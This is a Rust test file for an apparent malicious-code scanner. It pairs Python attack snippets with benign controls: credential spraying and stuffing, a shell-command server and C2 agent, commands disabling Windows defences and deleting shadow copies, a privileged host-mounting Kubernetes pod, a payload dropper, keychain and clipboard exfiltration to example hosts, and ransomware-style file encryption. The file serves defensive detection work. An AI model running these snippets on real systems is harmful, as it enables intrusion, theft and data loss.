//! Behaviour tests for the ninth round (what blind batch 8 showed the eighth
//! round's rules missed), spelled unlike the batch, each with a benign
//! control. Every test names a behaviour the release at 3ab9d75 misses: its
//! malicious half is rated LOW or MEDIUM (or HIGH where it says BLOCKED)
//! there.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

/// Passwords posted in a web login's body, one by one from a list: 3ab9d75
/// knew only login methods and `password=` keywords (LOW).
#[test]
fn web_logins_tried_with_each_password_of_a_list() {
    let spray = "import requests\nURL = 'https://idp.example.org/token'\nWORDS = ['Spring2025!', 'Welcome1']\ndef attempt(s, who, guess):\n    return s.post(URL, json={'username': who, 'password': guess}).ok\ns = requests.Session()\nfor guess in WORDS:\n    for who in open('users.txt'):\n        attempt(s, who.strip(), guess)\n";
    let a = run(spray);
    let f = finding(&a, "MB925");
    assert_eq!(f.line, 5, "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    // One login with the account's own password, however often.
    let once = "import os, requests\nfor _ in range(3):\n    requests.post('https://app.example.org/login', json={'user': 'ci', 'password': os.environ['CI_PW']})\n";
    assert!(!rules(&run(once)).contains(&"MB925"));
}

/// A combo list fed to worker threads through a queue: the password taken
/// from `q.get()` is the loop's that filled the queue (3ab9d75: LOW).
#[test]
fn combo_lists_through_a_queue() {
    let src = "import queue, threading, requests\njobs = queue.Queue()\ndef work(q):\n    while True:\n        mail, pw = q.get()\n        requests.post('https://shop.example.net/api/login', data={'email': mail, 'pass': pw})\nfor line in open('combos.txt'):\n    jobs.put(line.strip().split(':', 1))\nthreading.Thread(target=work, args=(jobs,)).start()\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB925"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A password option of a remote-administration command line taken from a
/// list, through the script's own helper (3ab9d75: HIGH at most).
#[test]
fn password_options_guessed_on_a_command_line() {
    let src = "import subprocess, sys\ndef sh(argv):\n    return subprocess.run(argv).returncode\nfor pw in ['admin', 'P@ssw0rd']:\n    sh(['wmic', '/node:' + sys.argv[1], '/user:administrator', f'/password:{pw}', 'os', 'get', 'caption'])\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB925"), "{:?}", a.findings);
    // One known password, per host of an inventory.
    let inv = "import subprocess, os\nfor host in ['pc1', 'pc2']:\n    subprocess.run(['wmic', f'/node:{host}', f'/password:{os.environ[\"PW\"]}', 'os', 'get', 'caption'])\n";
    assert!(!rules(&run(inv)).contains(&"MB925"));
    // msbuild's `/p:` sets a property, not a password.
    let build = "import subprocess\nfor cfg in ['Debug', 'Release']:\n    subprocess.run(['msbuild', 'app.sln', f'/p:Configuration={cfg}'])\n";
    assert!(!rules(&run(build)).contains(&"MB925"));
}

/// The reader of an asyncio stream server's connection is network data
/// (3ab9d75: the handler's parameters carried nothing; MEDIUM).
#[test]
fn asyncio_stream_server_lines_run_as_commands() {
    let src = "import asyncio\nasync def on_conn(r, w):\n    line = (await r.readline()).decode()\n    p = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)\n    w.write((await p.communicate())[0])\nasync def main():\n    await (await asyncio.start_server(on_conn, '0.0.0.0', 4444)).serve_forever()\nasyncio.run(main())\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let fixed = src.replace(
        "create_subprocess_shell(line,",
        "create_subprocess_shell('uptime',",
    );
    assert!(!rules(&run(&fixed)).contains(&"MB913"));
}

/// A command table kept as a class attribute and called through
/// `self.TABLE.get(kind)(self, arg)` (3ab9d75: MEDIUM).
#[test]
fn class_attribute_command_tables() {
    let src = "import subprocess, requests\nclass Agent:\n    def run(self, arg):\n        return subprocess.run(arg, shell=True, capture_output=True).stdout\n    def noop(self, arg):\n        return b''\n    TABLE = {'run': run, 'noop': noop}\n    def poll(self):\n        for job in requests.get('https://c.example.com/jobs', timeout=9).json():\n            self.TABLE.get(job['k'])(self, job['a'])\nAgent().poll()\n";
    let a = run(src);
    let f = finding(&a, "MB913");
    assert_eq!(f.line, 4, "{:?}", a.findings);
    let canned = src.replace(
        "subprocess.run(arg, shell=True, capture_output=True).stdout",
        "arg",
    );
    assert!(!rules(&run(&canned)).contains(&"MB913"));
}

/// `systemctl --failed` (no verb) lists units: it administers nothing
/// (3ab9d75: MB208, HIGH).
#[test]
fn systemctl_without_a_verb_only_lists() {
    let src = "import subprocess\nprint(subprocess.run(['systemctl', '--failed', '--plain'], capture_output=True).stdout)\n";
    assert!(!rules(&run(src)).contains(&"MB208"));
    let stop = "import subprocess\nsubprocess.run(['systemctl', '--now', 'disable', 'nginx'])\n";
    assert!(rules(&run(stop)).contains(&"MB208"));
}

/// Windows defences switched off and recovery taken away (3ab9d75: LOW).
#[test]
fn windows_defences_and_recovery() {
    for cmd in [
        "netsh advfirewall set allprofiles state off",
        "powershell -c \\\"Set-MpPreference -DisableIOAVProtection $true\\\"",
        "powershell -c \\\"Add-MpPreference -ExclusionPath C:\\\\Users\\\"",
        "reg add HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Policies\\\\System /v EnableLUA /t REG_DWORD /d 0 /f",
    ] {
        let a = run(&format!("import os\nos.system(\"{cmd}\")\n"));
        assert!(rules(&a).contains(&"MB924"), "{cmd}: {:?}", a.findings);
    }
    for cmd in [
        "vssadmin delete shadows /all /quiet",
        "wmic shadowcopy delete",
    ] {
        let a = run(&format!("import os\nos.system('{cmd}')\n"));
        assert!(rules(&a).contains(&"MB907"), "{cmd}: {:?}", a.findings);
    }
    for benign in [
        "netsh advfirewall show allprofiles",
        "powershell -c Set-MpPreference -DisableRealtimeMonitoring $false",
        "vssadmin delete shadows /for=c: /oldest /quiet",
    ] {
        let a = run(&format!("import os\nos.system('{benign}')\n"));
        assert!(
            !rules(&a).contains(&"MB924") && !rules(&a).contains(&"MB907"),
            "{benign}: {:?}",
            a.findings
        );
    }
}

/// A Kubernetes pod or DaemonSet asked for privilege or the node's `/`
/// (3ab9d75: LOW).
#[test]
fn kubernetes_privileged_workloads() {
    let src = "import json, urllib.request\nspec = {'kind': 'Pod', 'spec': {'containers': [{'name': 'x', 'image': 'alpine', 'securityContext': {'privileged': True}}], 'volumes': [{'name': 'h', 'hostPath': {'path': '/'}}]}}\nurllib.request.urlopen(urllib.request.Request('https://10.0.0.1/api/v1/namespaces/default/pods', data=json.dumps(spec).encode()))\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB921"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let plain = src
        .replace("{'privileged': True}", "{'runAsNonRoot': True}")
        .replace("'path': '/'", "'path': '/var/log'");
    assert!(!rules(&run(&plain)).contains(&"MB921"));
}

/// A payload decoded from a long literal the script carries, written and
/// run (3ab9d75: MEDIUM).
#[test]
fn embedded_payloads_unpacked_and_run() {
    let blob = "QUJD".repeat(60);
    let src = format!("import base64, subprocess\nBLOB = '{blob}'\nwith open('/tmp/.svc', 'wb') as f:\n    f.write(base64.b64decode(BLOB))\nsubprocess.Popen(['/tmp/.svc'])\n");
    let a = run(&src);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    // The same blob opened by a viewer is a document, not a program.
    let doc = src.replace("['/tmp/.svc']", "['xdg-open', '/tmp/.svc']");
    assert!(!rules(&run(&doc)).contains(&"MB915"));
}

/// The Win32 clipboard read through ctypes in a script that sends
/// (3ab9d75: MEDIUM).
#[test]
fn win32_clipboard_read_and_sent() {
    let src = "import ctypes, requests\nu = ctypes.windll.user32\nu.OpenClipboard(None)\ntext = ctypes.wstring_at(u.GetClipboardData(13))\nrequests.post('https://c.example.net/p', data=text)\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
    let local = src.replace(
        "requests.post('https://c.example.net/p', data=text)",
        "print(text)",
    );
    assert!(!rules(&run(&local)).contains(&"MB940"));
}

/// The keychain dumped, or a browser's Safe Storage key asked of it, and
/// sent (3ab9d75: LOW).
#[test]
fn keychain_secrets_sent() {
    let src = "import subprocess, requests\nk = subprocess.check_output(['security', 'find-generic-password', '-w', '-s', 'Chrome Safe Storage'])\nrequests.post('https://x.example.org/k', data=k)\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
    let own = src.replace("Chrome Safe Storage", "mytool-token");
    assert!(!rules(&run(&own)).contains(&"MB916"));
}

/// Walked files packed into an encrypted archive and the originals deleted
/// (3ab9d75: LOW).
#[test]
fn encrypted_archives_replacing_originals() {
    let src = "import os, pyzipper\nfor d, _, fs in os.walk('/srv/share'):\n    for f in fs:\n        p = os.path.join(d, f)\n        with pyzipper.AESZipFile(p + '.zip', 'w', encryption=pyzipper.WZ_AES) as z:\n            z.setpassword(b'k')\n            z.write(p)\n        os.remove(p)\n";
    let a = run(src);
    assert!(rules(&a).contains(&"MB917"), "{:?}", a.findings);
    let keep = src.replace("        os.remove(p)\n", "");
    assert!(!rules(&run(&keep)).contains(&"MB917"));
}
